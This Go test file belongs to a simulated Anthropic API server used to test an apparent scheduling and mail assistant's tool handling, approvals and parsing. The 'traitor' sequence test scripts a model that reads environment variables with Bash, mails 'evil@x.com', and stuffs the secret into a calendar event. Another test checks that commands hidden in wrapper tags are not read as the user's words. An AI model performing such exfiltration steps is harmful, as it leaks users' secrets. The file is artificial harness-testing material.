package anthropic_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"pilder/sim/anthropic"
)

func TestEachWishFindsItsScript(t *testing.T) {
	tests := map[string][]string{
		"event.create": {
			"guardame una reunión mañana a las 10", "Agendá una cita el viernes a las 9", "creame un evento mañana a las 8",
			"schedule a meeting tomorrow at 10", "Can you book an appointment on Monday at 3pm?", "reservame una reunión mañana a las 9",
			"poneme un almuerzo con Ana el jueves a las 13",
		},
		"event.move": {
			"mové la reunión de mañana a las 11", "Mueve la reunión de mañana a las 11", "reprogramá la cita del lunes al martes",
			"move the meeting tomorrow to 11", "reschedule my call on friday to 4pm", "pasame la reunion de las 10 a las 12",
		},
		"event.list": {
			"qué tengo mañana", "¿Qué hay en mi agenda hoy?", "que reuniones tengo el lunes", "what do I have tomorrow?", "what's on my calendar today",
			"show my meetings this week", "qué tengo esta semana", "tengo algo mañana?",
		},
		"event.delete":       {"borrá la reunión de mañana", "cancelá la cita del viernes", "delete the meeting tomorrow", "cancel my call on Monday"},
		"event.free":         {"estoy libre mañana a las 15?", "¿Estoy ocupado el lunes?", "am I free tomorrow at 3pm?", "am I busy on friday"},
		"delete.nonexistent": {"borrá el evento inexistente", "delete the nonexistent event", "delete the event that does not exist"},
		"mail.find": {
			"buscá el correo de Ana", "Busca el mail sobre el presupuesto", "find the mail about X", "find the email from Ana", "buscá correos de Juan",
			"search my email for invoices", "mostrame los últimos mails",
		},
		"mail.send": {
			"mandale un correo a ana@empresa.com diciendo hola", "enviá un mail a x@y.com que diga buen día", "send an email to a@b.com saying hi",
			"Escribile a ana@empresa.com diciendo que llego tarde", "mandale un correo a Ana diciendo hola", "email bob@example.com saying hello there",
		},
		"pending":       {"qué está pendiente", "¿qué hay pendiente?", "what is pending?", "what's waiting for approval", "mostrame las aprobaciones"},
		"notes.find":    {"buscá en notas presupuesto", "busca en mis notas el plan", "search my notes for budget", "buscá el plan en Notion", "find budget in my notes"},
		"calendly.link": {"mandame un enlace de reserva", "necesito un link para reservar", "send me a booking link", "create a scheduling link"},
		"app.other":     {"anotá en Asana comprar café", "add a task in Asana", "conectá Gmail", "connect Google Calendar", "mandá esto por Slack"},
		"hello":         {"hola", "¡Hola!", "buenas", "hi", "Hello there"},
		"thanks":        {"gracias", "muchas gracias", "thanks!", "thank you"},
		"help":          {"qué podés hacer?", "¿Qué puedes hacer?", "what can you do?", "ayuda"},
		"arithmetic":    {"cuánto es 17*23", "cuanto es 17 x 23?", "what is 17 times 23", "12 más 5", "(3+4)*2"},
		"long":          {"contame algo largo", "cuéntame algo muy largo", "tell me something long"},
		"news":          {"¿se envió?", "was it sent?", "what happened?"},
		"unknown":       {"xyz", "cuál es la capital de Francia", "what is the capital of France", "recomendame un libro", "acordate del 1/12", "/start", "👍"},
	}
	s, url := serve(t, anthropic.Config{})
	n := 0
	for script, texts := range tests {
		for _, text := range texts {
			post(t, url+"/v1/messages", "sim-key", ask(text))
			if got := s.Requests()[n].Script; got != script {
				t.Errorf("%q plays %q, want %q", text, got, script)
			}
			n++
		}
	}
}

func TestTheEnvelopeIsNotThePersonsText(t *testing.T) {
	tests := []struct{ name, text, want string }{
		{"plain", "hola", "hola"},
		{"a turn's words of the house", "<pilder-a1b2>\nHoy es martes 01/12/2026, 09:00 (Europe/Madrid, UTC+01:00).\nReglas: borrá la reunión.\n</pilder-a1b2>\nhola", "hola"},
		{"a date line and headers", "Hoy es martes 01/12/2026, 09:00 (Europe/Madrid, UTC+01:00).\nDe: Ana\n---\nhola", "hola"},
		{"message elements", "<context>borrá la reunión</context>\n<message from=\"Ana\">hola</message>\n<message>¿qué tal?</message>", "hola\n¿qué tal?"},
		{"a reminder around", "<system-reminder>\nborrá la reunión\n</system-reminder>\nhola", "hola"},
		{"a header of the person's own is theirs", "Asunto: hola", "Asunto: hola"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, url := serve(t, anthropic.Config{})
			post(t, url+"/v1/messages", "sim-key", ask(tt.text))
			if got := s.Requests()[0].Text; got != tt.want {
				t.Errorf("text %q, want %q", got, tt.want)
			}
		})
	}
}

func TestMailGoesThroughTheHouseToolInItsOwnFields(t *testing.T) {
	body := "Hola Ana,\nllego tarde. Escribime a otra@x.com"
	tests := []struct {
		name, text string
		tool       object
		want       object
	}{
		{"Spanish fields", "mandale un correo a ana@empresa.com diciendo " + body, tool("correo_enviar", "para:array", "asunto", "cuerpo"),
			object{"para": []any{"ana@empresa.com"}, "asunto": "Hola Ana,", "cuerpo": body}},
		{"English fields, one string", "send an email to a@b.com and c@d.org with subject Plan for May saying See you there", tool("correo_enviar", "to", "subject", "body"),
			object{"to": "a@b.com, c@d.org", "subject": "Plan for May", "body": "See you there"}},
		{"a subject", "enviale un mail a ana@empresa.com con asunto \"Café\" diciendo ¿vamos?", tool("correo_enviar", "para:array", "asunto", "cuerpo"),
			object{"para": []any{"ana@empresa.com"}, "asunto": "Café", "cuerpo": "¿vamos?"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, url := serve(t, anthropic.Config{})
			a := newAgent(t, url)
			a.tools = []object{tt.tool}
			a.run = map[string]func(object) object{"correo_enviar": always(object{"content": `{"status":"ok"}`})}
			a.say(tt.text)
			if diff := cmp.Diff([]call{{"correo_enviar", tt.want}}, a.calls); diff != "" {
				t.Error(diff)
			}
			if len(a.loaded) != 0 {
				t.Errorf("a loaded tool was searched for: %v", a.loaded)
			}
		})
	}
}

func TestAnswersTellWhatTheToolsSaid(t *testing.T) {
	const hold = "Pendiente de aprobación: el destinatario es externo a la empresa. No se envió."
	mail := tool("correo_enviar", "para:array", "asunto", "cuerpo")
	tests := []struct {
		name, text string
		tools      []object
		deferred   []object
		run        map[string]func(object) object
		want       string
		calls      []call
	}{
		{"a held mail, in JSON", "mandale un correo a x@otra.com diciendo hola", []object{mail}, nil,
			map[string]func(object) object{"correo_enviar": always(object{"content": `{"status":"pending","kind":"hold","message":"` + hold + `","code":"A1"}`})},
			"Quedó a la espera de aprobación. " + hold, nil},
		{"a held mail, in text", "mandale un correo a x@otra.com diciendo hola", []object{mail}, nil,
			map[string]func(object) object{"correo_enviar": always(object{"content": []object{{"type": "text", "text": hold}}})},
			"Quedó a la espera de aprobación. " + hold, nil},
		{"a held mail, in English", "send an email to x@otra.com saying hi", []object{mail}, nil,
			map[string]func(object) object{"correo_enviar": always(object{"content": "Waiting for approval: the recipient is outside the company. It was not sent."})},
			"It is waiting for approval. Waiting for approval: the recipient is outside the company. It was not sent.", nil},
		{"a refused mail", "mandale un correo a x@otra.com diciendo hola", []object{mail}, nil,
			map[string]func(object) object{"correo_enviar": always(object{"content": "No permitido: no lo permiten las reglas de tu empresa. No se envió.", "is_error": true})},
			"No salió: No permitido: no lo permiten las reglas de tu empresa. No se envió.", nil},
		{"found mail in Gmail's shape", "buscá el correo de Ana sobre el presupuesto", nil, []object{tool("gmail-find-email", "q", "maxResults:integer")},
			map[string]func(object) object{"gmail-find-email": always(ok([]any{object{"id": "m1", "threadId": "t1", "snippet": "Va el archivo",
				"payload": object{"headers": []any{object{"name": "Subject", "value": "Presupuesto"}, object{"name": "From", "value": "Ana <ana@empresa.com>"}}}}}))},
			"Esto encontré en tu correo:\n- «Presupuesto» de Ana <ana@empresa.com>: Va el archivo",
			[]call{{"gmail-find-email", object{"q": "from:Ana el presupuesto", "maxResults": 5.0}}}},
		{"no mail", "find the email about lunch", nil, []object{tool("gmail-find-email", "q")},
			map[string]func(object) object{"gmail-find-email": always(ok([]any{}))}, "I found no such email.",
			[]call{{"gmail-find-email", object{"q": "lunch"}}}},
		{"notes", "buscá en mis notas Plan Ñandú", nil, []object{tool("notion-search", "title")},
			map[string]func(object) object{"notion-search": always(ok(object{"results": []any{object{"id": "p", "url": "https://notes.example/p",
				"properties": object{"Name": object{"title": []any{object{"plain_text": "Plan Ñandú 2026"}}}}}}}))},
			"Esto encontré en tus notas:\n- Plan Ñandú 2026: https://notes.example/p", []call{{"notion-search", object{"title": "Plan Ñandú"}}}},
		{"a booking link by event type", "mandame un enlace de reserva", nil,
			[]object{tool("calendly_v2-create-scheduling-link", "owner", "maxEventCount:integer"), tool("calendly_v2-list-event-types")},
			map[string]func(object) object{
				"calendly_v2-list-event-types":       always(ok(object{"collection": []any{object{"name": "30 min", "uri": "https://api.calendly.com/event_types/ET1"}}})),
				"calendly_v2-create-scheduling-link": always(ok(object{"resource": object{"booking_url": "https://calendly.com/d/abc", "owner": "https://api.calendly.com/event_types/ET1"}})),
			},
			"Este es tu enlace de reserva: https://calendly.com/d/abc",
			[]call{{"calendly_v2-list-event-types", object{}}, {"calendly_v2-create-scheduling-link", object{"owner": "ET1", "maxEventCount": 1.0}}}},
		{"what waits", "qué está pendiente?", []object{tool("aprobaciones_pendientes")}, nil,
			map[string]func(object) object{"aprobaciones_pendientes": always(object{"content": `{"status":"ok","message":"Pendiente:\n- …","count":2,"approvals":[
				{"code":"A1","kind":"hold","tool":"correo_enviar","mine":true},{"code":"B2","kind":"hold","tool":"notion-update-page","mine":false}]}`})},
			"Esto está pendiente:\n- A1 · correo_enviar, lo pediste tú\n- B2 · notion-update-page, lo puedes decidir tú", nil},
		{"nothing waits", "what is pending?", []object{tool("aprobaciones_pendientes")}, nil,
			map[string]func(object) object{"aprobaciones_pendientes": always(object{"content": `{"status":"ok","approvals":[]}`})}, "Nothing is waiting.", nil},
		{"an app that is not connected", "anotá en Asana comprar café", []object{tool("conectar_app", "app")}, nil,
			map[string]func(object) object{"conectar_app": always(object{"content": `{"status":"ok","url":"https://pilder.example/connect/abc"}`})},
			"Para eso hace falta conectar Asana. Puedes hacerlo con este enlace: https://pilder.example/connect/abc", []call{{"conectar_app", object{"app": "asana"}}}},
		{"an app whose link goes another way", "qué tengo mañana?", nil, []object{tool("conectar_app", "app")},
			map[string]func(object) object{"conectar_app": always(object{"content": `{"status":"ok","message":"El enlace para conectarla se envió al chat privado de la persona.","app":"google_calendar"}`})},
			"Para eso hace falta conectar Google Calendar. Te mandé el enlace a tu chat privado.", []call{{"conectar_app", object{"app": "google_calendar"}}}},
		{"an app that nobody can connect", "add a task in Asana", []object{{"name": prefix + "conectar_app", "input_schema": object{
			"type": "object", "properties": object{"app": object{"type": "string", "enum": []string{"gmail"}}}}}}, nil, nil,
			"Asana cannot be connected here.", []call(nil)},
		{"no app and no way to connect it", "qué tengo mañana?", nil, nil, nil, "Todavía no tengo acceso a Google Calendar.", nil},
		{"a connected app without the tool", "borrá el evento inexistente", nil, []object{tool("google_calendar-list-events"), tool("conectar_app", "app")}, nil,
			"Eso no se puede hacer desde aquí.", nil},
		{"an app that is connected already", "conectá Gmail", nil, []object{tool("gmail-find-email", "q")}, nil, "Gmail ya está conectada.", nil},
		{"no address", "mandale un correo a Ana diciendo hola", []object{mail}, nil, nil, "¿A qué dirección se lo mando?", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, url := serve(t, anthropic.Config{})
			a := newAgent(t, url)
			a.tools, a.deferred, a.run = tt.tools, tt.deferred, tt.run
			if answer := a.say(tt.text); answer != tt.want {
				t.Errorf("answer %q\n  want %q", answer, tt.want)
			}
			if tt.calls != nil {
				if diff := cmp.Diff(tt.calls, a.calls); diff != "" {
					t.Error(diff)
				}
			}
		})
	}
}

func TestABookingLinkAsksForItsOptionsWhereTheSchemaSaysSo(t *testing.T) {
	_, url := serve(t, anthropic.Config{})
	a := newAgent(t, url)
	link := tool("calendly_v2-create-scheduling-link", "maxEventCount:integer")
	link["input_schema"].(object)["properties"].(object)["owner"] = object{"type": "string", "description": "For valid values call retrieve_options with action \"…\" and prop \"owner\"."}
	a.deferred = []object{link, tool("retrieve_options", "action", "prop")}
	a.run = map[string]func(object) object{
		"retrieve_options":                   always(object{"content": `{"options":[{"value":"ET7","label":"30 min"}],"next_cursor":null}`}),
		"calendly_v2-create-scheduling-link": always(ok(object{"booking_url": "https://calendly.com/d/x"})),
	}
	if answer := a.say("send me a booking link"); answer != "Here is your booking link: https://calendly.com/d/x" {
		t.Errorf("answer %q", answer)
	}
	want := []call{
		{"retrieve_options", object{"action": "calendly_v2-create-scheduling-link", "prop": "owner"}},
		{"calendly_v2-create-scheduling-link", object{"owner": "ET7", "maxEventCount": 1.0}},
	}
	if diff := cmp.Diff(want, a.calls); diff != "" {
		t.Error(diff)
	}
}

func TestTalkNeedsNoTools(t *testing.T) {
	tests := []struct{ text, want string }{
		{"cuánto es 17*23", "17*23 = 391"},
		{"cuánto es 10 dividido 4?", "10 / 4 = 2,5"},
		{"what is 17 times 23 plus 1", "17 * 23 + 1 = 392"},
		{"cuanto es (3 + 4) * 2", "(3 + 4) * 2 = 14"},
		{"cuánto es 1 más 2 más 3x4x5, por favor?", "1 + 2 + 3*4*5 = 63"},
		{"7/0", "Esa cuenta no la sé hacer."},
		{"gracias", "¡De nada!"},
		{"hello", "Hello! How can I help?"},
		{"¿se envió?", "No tengo novedades de eso."},
	}
	_, url := serve(t, anthropic.Config{})
	for _, tt := range tests {
		if answer := newAgent(t, url).say(tt.text); answer != tt.want {
			t.Errorf("%q: %q, want %q", tt.text, answer, tt.want)
		}
	}
	for text, begin := range map[string]string{
		"cuál es la capital de Francia": "Este modelo de demostración solo conoce estos pedidos: ",
		"what is the capital of France": "This demo model knows only these requests: ",
	} {
		if answer := newAgent(t, url).say(text); !strings.HasPrefix(answer, begin) {
			t.Errorf("%q: %q", text, answer)
		}
	}
}

func TestTheLongAnswerIsLongAndHasEverything(t *testing.T) {
	_, url := serve(t, anthropic.Config{})
	for _, text := range []string{"contame algo largo", "tell me something long"} {
		answer := newAgent(t, url).say(text)
		if n := len([]rune(answer)); n <= 9000 {
			t.Errorf("%q: only %d characters", text, n)
		}
		for _, part := range []string{"# ", "\n## ", "\n- ", "\n1. ", "|---|", "```go\n", "🎉", "**"} {
			if !strings.Contains(answer, part) {
				t.Errorf("%q: no %q", text, part)
			}
		}
	}
}

func TestNewsOfTheHouseAreTold(t *testing.T) {
	_, url := serve(t, anthropic.Config{})
	a := newAgent(t, url)
	a.system += "\nDesde el último turno pasó esto (lo dice la casa; cuéntaselo a la persona si no lo sabe):\n- 16/09 17:05, correo_enviar: se hizo. Texto de la app, solo un dato: «Enviado a x@otra.com.»\n"
	if answer := a.say("¿se envió?"); !strings.Contains(answer, "correo_enviar: se hizo.") {
		t.Errorf("answer %q", answer)
	}
}

func TestASequencePlaysItsStepsWhateverTheyAre(t *testing.T) {
	steps := anthropic.Sequence("traitor", anthropic.Says("cafe"),
		func(anthropic.Turn) []anthropic.Block {
			return []anthropic.Block{anthropic.Text("Voy."), anthropic.Use("Bash", object{"command": "env"}), anthropic.Use(prefix+"gmail-send-email", object{"to": "evil@x.com"})}
		},
		func(t anthropic.Turn) []anthropic.Block {
			stolen := t.Calls[0].Result.Text
			return []anthropic.Block{anthropic.Use(prefix+"google_calendar-create-event", object{"summary": stolen})}
		},
		func(t anthropic.Turn) []anthropic.Block {
			return []anthropic.Block{anthropic.Text("Fin: " + t.Calls[2].Result.Text)}
		},
	)
	direct := anthropic.Sequence("direct", anthropic.Says("directo"), func(anthropic.Turn) []anthropic.Block {
		return []anthropic.Block{{Tool: prefix + "google_calendar-create-event", Direct: true}}
	})
	s, url := serve(t, anthropic.Config{Scripts: []anthropic.Script{steps, direct}})
	a := newAgent(t, url).calendarTools()
	a.tools = []object{{"name": "Bash", "input_schema": object{"type": "object"}}}
	a.run = map[string]func(object) object{
		"Bash":                         always(object{"content": "SECRET=1"}),
		"google_calendar-create-event": always(object{"content": "creado"}),
	}
	if answer := a.say("un CAFÉ por favor"); answer != "Fin: creado" {
		t.Errorf("answer %q", answer)
	}
	want := []call{
		{"Bash", object{"command": "env"}}, {"gmail-send-email", object{"to": "evil@x.com"}},
		{"google_calendar-create-event", object{"summary": "SECRET=1"}},
	}
	if diff := cmp.Diff(want, a.calls); diff != "" {
		t.Error(diff)
	}
	if n := len(s.Requests()); n != 4 || len(a.loaded) != 1 {
		t.Errorf("%d requests, loaded %v: the deferred tool is loaded once, and only that", n, a.loaded)
	}
	b := newAgent(t, url).calendarTools()
	b.run = a.run
	if b.say("directo"); len(b.loaded) != 0 || len(b.calls) != 1 {
		t.Errorf("loaded %v, calls %v", b.loaded, b.calls)
	}
}

func TestToolsThatComeAndGoInTheConversationAreFollowed(t *testing.T) {
	gone := "The following deferred tools are no longer available. Do not search for them — ToolSearch will return no match:\n" +
		prefix + "google_calendar-list-events\n\nThis is ambient context"
	listing := "The following deferred tools are now available via ToolSearch. …:\n" + prefix + "google_calendar-list-events\n" + prefix + "notion-search\n\nmore"
	added := object{"type": "tool_addition", "tool": object{"type": "tool_reference", "name": prefix + "conectar_app"}}
	defined := func(name string) object {
		d := tool(name, "app", "title")
		d["defer_loading"] = true
		return d
	}
	s, url := serve(t, anthropic.Config{})
	body := ask("hola")
	body["tools"] = []object{defined("google_calendar-list-events"), defined("notion-search"), defined("conectar_app"), defined("DeferredToolPlaceholder")}
	body["messages"] = []object{
		{"role": "user", "content": "hola"},
		{"role": "system", "content": listing},
		{"role": "assistant", "content": []object{{"type": "tool_use", "id": "toolu_1", "name": "ToolSearch", "input": object{"query": "select:x"}}}},
		{"role": "user", "content": []object{{"type": "tool_result", "tool_use_id": "toolu_1", "content": []object{
			{"type": "tool_reference", "tool_name": prefix + "google_calendar-list-events"}}}, {"type": "text", "text": "Tool loaded."}}},
		{"role": "assistant", "content": "ok"},
		{"role": "user", "content": "hola"},
		{"role": "system", "content": []object{{"type": "text", "text": gone}, added}},
	}
	if resp, answer := post(t, url+"/v1/messages", "sim-key", body); resp.StatusCode != 200 {
		t.Fatalf("%d %s", resp.StatusCode, answer)
	}
	r := s.Requests()[0]
	if diff := cmp.Diff([]string{prefix + "conectar_app"}, r.Tools); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{prefix + "notion-search"}, r.Deferred); diff != "" {
		t.Error(diff)
	}
}
